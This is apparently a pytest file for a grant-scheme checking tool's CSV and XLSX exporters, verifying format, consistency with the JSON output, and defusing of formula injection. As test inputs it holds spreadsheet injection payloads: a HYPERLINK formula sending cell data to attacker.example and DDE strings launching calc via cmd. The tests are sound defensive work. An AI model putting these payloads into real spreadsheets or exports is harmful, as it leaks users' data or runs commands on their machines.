"""Spreadsheets out: -f csv (RFC 4180, UTF-8, safe against formula injection) and
-f xlsx (four sheets, frozen and filtered headers, text never a formula), each
read back as a spreadsheet user's tools would read it."""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
from pathlib import Path

import pytest

from conftest import ROOT, run
from grantcheck.reporters.csv_report import COLUMNS, TRIGGERS, cell

HOSTILE = ROOT / "tests" / "hostile" / "spreadsheet"
HOSTILE_FILES = sorted(str(p.relative_to(ROOT)) for p in HOSTILE.glob("*.yaml"))


def _csv(*args: str) -> tuple[str, list[dict[str, str]]]:
    result = run("check", *args, "-f", "csv")
    assert result.exit_code in (0, 1), result.output  # type: ignore[attr-defined]
    # .output turns CRLF into LF: read the bytes as written
    text = result.stdout_bytes.decode("utf-8")  # type: ignore[attr-defined]
    return text, list(csv.DictReader(io.StringIO(text, newline="")))


def test_csv_is_one_row_per_finding_matching_json() -> None:
    text, rows = _csv("examples/")
    assert text.splitlines()[0].split(",") == list(COLUMNS)
    data = json.loads(run("check", "examples/", "-f", "json").stdout)  # type: ignore[attr-defined]
    findings = [(s, f) for s in data["schemes"] for f in s["findings"]]
    assert len(rows) == len(findings) > 50
    for row, (s, f) in zip(rows, findings, strict=True):
        assert (row["file"], row["scheme_id"], row["scheme_name"], row["funder"], row["band"]) == (
            f["file"],
            s["id"],
            s["name"],
            s["funder"],
            s["band"],
        )
        assert (row["rule"], row["severity"], row["title"], row["metric"], row["message"]) == (
            f["rule"],
            f["severity"],
            f["title"],
            f["metric"],
            f["message"],
        )
        assert (int(row["line"]), int(row["column"])) == (f["line"], f["column"])
        assert row["waived"] == ("true" if f["waived"] else "false")
        assert row["waiver_reason"] == (f["waiver_reason"] or "")
        assert row["basis"] == f["basis"] and row["basis"] in (
            "guide",
            "law",
            "compact",
            "research",
            "judgement",
            "local",
        )
        if isinstance(f["value"], (int, float)) and not isinstance(f["value"], bool):
            assert float(row["value"]) == f["value"]


def test_csv_follows_rfc_4180() -> None:
    text, _ = _csv("examples/emergency-fund-with-waivers.yaml")
    body = text.encode("utf-8")
    assert body.count(b"\r\n") >= 2 and b"\n" not in body.replace(b"\r\n", b"")  # CRLF only
    assert text.endswith("\r\n")


def test_csv_to_a_file_is_the_same(tmp_path: Path) -> None:
    text, _ = _csv("examples/")
    run("check", "examples/", "-f", "csv", "-o", str(tmp_path / "r.csv"))
    assert (tmp_path / "r.csv").read_bytes() == text.encode("utf-8")


@pytest.mark.parametrize(
    "value, expected",
    [
        ("=1+1", "'=1+1"),
        ("+cmd", "'+cmd"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "\\tx"),
        ("\rx", "\\rx"),
        ("-3", "'-3"),
        ("plain", "plain"),
        ("a=b", "a=b"),
        (-3, -3),
        (-2.5, -2.5),
        (14.0, 14),
        (True, "true"),
        (None, ""),
        (float("-inf"), "'-inf"),
        (["a", "=b"], "a; =b"),
        (["=a"], "'=a"),
        ("bell\x07", "bell\\x07"),
        ("\u202egnp.exe", "\\u202egnp.exe"),
    ],
)
def test_csv_cells(value: object, expected: object) -> None:
    """Text is defused; numbers grantcheck computed stay numbers, negative ones too."""
    assert cell(value) == expected


def test_csv_hostile_text_never_starts_a_formula() -> None:
    _, rows = _csv(*HOSTILE_FILES)
    assert len(rows) > 10
    names = {row["scheme_name"] for row in rows}
    assert '\'=HYPERLINK("http://attacker.example/?"&A1,"Click me")' in names
    assert "\\rCarriage return first" in names  # shown, as in every report: never a formula
    assert {row["funder"] for row in rows} >= {"'+cmd|' /C calc'!A0", "'-1"}
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in {row["waiver_reason"] for row in rows}
    for row in rows:
        for key, value in row.items():
            if value.startswith(TRIGGERS):
                float(value)  # only a number grantcheck wrote may start with '-'
                assert key in ("value", "threshold"), (key, value)
            assert not any(ord(c) < 32 and c not in "\t\n\r" for c in value)
    huge = [row for row in rows if row["scheme_id"] == "huge-values"]
    assert huge and huge[0]["scheme_name"] == "W" * 300
    known = [float(row["value"]) for row in huge if row["value"] not in ("", "not known")]
    assert max(known) >= 100_000


def test_xlsx_to_standard_output_is_refused() -> None:
    result = run("check", "examples/", "-f", "xlsx")
    assert result.exit_code == 2
    said = str(result.output)  # type: ignore[attr-defined]
    assert "cannot go to standard output" in said and "-o report.xlsx" in said
    done = subprocess.run(
        [sys.executable, "-m", "grantcheck", "check", "examples/", "-f", "xlsx"],
        cwd=ROOT,
        capture_output=True,
        timeout=60,
    )  # a pipe
    assert done.returncode == 2 and done.stdout == b"" and b"Traceback" not in done.stderr


def _book(tmp_path: Path, *paths: str):  # type: ignore[no-untyped-def]
    openpyxl = pytest.importorskip("openpyxl")
    out = tmp_path / "report.xlsx"
    result = run("check", *paths, "-f", "xlsx", "-o", str(out))
    assert result.exit_code in (0, 1), result.output  # type: ignore[attr-defined]
    assert not list(tmp_path.glob(".report.xlsx.*"))  # the temporary file was renamed into place
    return openpyxl.load_workbook(out)


def test_xlsx_sheets_read_back(tmp_path: Path) -> None:
    book = _book(tmp_path, "examples/")
    assert book.sheetnames == ["Schemes", "Findings", "Rules", "Assumptions"]
    data = json.loads(run("check", "examples/", "-f", "json").stdout)  # type: ignore[attr-defined]
    for ws in book.worksheets:
        assert (
            ws.freeze_panes == "A2" and ws.auto_filter.ref and ws.auto_filter.ref.startswith("A1:")
        )
    schemes = list(book["Schemes"].iter_rows(values_only=True))
    head = list(schemes[0])
    assert len(head) == len(set(head)), "every column heading once"
    assert len(schemes) - 1 == len(data["schemes"])
    assert {"application.window_days", "application.cost_share", "sector.cost"} <= set(head)
    for row, s in zip(schemes[1:], data["schemes"], strict=True):
        record = dict(zip(head, row, strict=False))
        assert record["id"] == s["id"] and record["name"] == s["name"]
        for metric, value in s["metrics"].items():
            assert (
                record[metric] == value
                or (value is None and record[metric] == "not known")  # never blank
                or (isinstance(value, list) and record[metric] == "; ".join(map(str, value)))
            ), metric
    findings = list(book["Findings"].iter_rows(values_only=True))
    assert list(findings[0]) == list(COLUMNS)
    assert len(findings) - 1 == sum(len(s["findings"]) for s in data["schemes"])
    rules = list(book["Rules"].iter_rows(values_only=True))
    assert (
        rules[0][:5] == ("rule", "title", "metric", "check", "basis")
        and "micro warning" in rules[0]
    )
    gc101 = dict(zip(rules[0], next(r for r in rules if r[0] == "GC101"), strict=False))
    assert gc101["micro warning"] == 28 and gc101["micro error"] == 15
    assumptions = list(book["Assumptions"].iter_rows(values_only=True))
    assert "hourly_cost" in [r[0] for r in assumptions]


def test_xlsx_hostile_text_is_text(tmp_path: Path) -> None:
    book = _book(tmp_path, *HOSTILE_FILES)
    texts = []
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for c in row:
                assert c.data_type != "f", (ws.title, c.coordinate, c.value)
                if isinstance(c.value, str):
                    texts.append(c.value)
                    assert not any(ord(ch) < 32 and ch not in "\t\n\r" for ch in c.value)
    assert '=HYPERLINK("http://attacker.example/?"&A1,"Click me")' in texts
    assert "+cmd|' /C calc'!A0" in texts and "-1" in texts and "W" * 300 in texts


@pytest.mark.slow  # a subprocess (test_model keeps one import check in the fast loop)
def test_a_plain_check_does_not_import_xlsxwriter() -> None:
    script = (
        "import sys; from grantcheck.cli import main; sys.argv = ['grantcheck', *sys.argv[1:]]\n"
        "try:\n    main()\nexcept SystemExit:\n    pass\n"
        "print(sorted(m for m in ('xlsxwriter', 'openpyxl', 'csv') if m in sys.modules), "
        "file=sys.stderr)"
    )
    done = subprocess.run(
        [sys.executable, "-c", script, "check", "examples/"],
        cwd=ROOT,
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert done.stderr.splitlines()[-1] == "[]", done.stderr
